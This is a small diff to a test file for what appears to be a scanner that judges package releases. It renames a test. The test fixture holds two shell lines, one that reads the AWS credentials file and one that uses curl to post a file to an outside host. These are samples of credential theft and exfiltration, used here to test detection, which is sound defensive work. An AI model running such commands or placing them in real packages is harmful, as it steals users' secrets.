@@ -44,7 +44,7 @@ describe('the verdict on a change', () => {
     })
   })
 
-  it('is caution for a release that gains a network sink and reads a credential', () => {
+  it('is caution for a patch release that gains a network sink and reads a credential', () => {
     const found = change(
       version('1.0.1', text(bash('cat ~/.aws/credentials', 'curl -d @notes.txt https://tea-stats.dev/v1'))),
     )
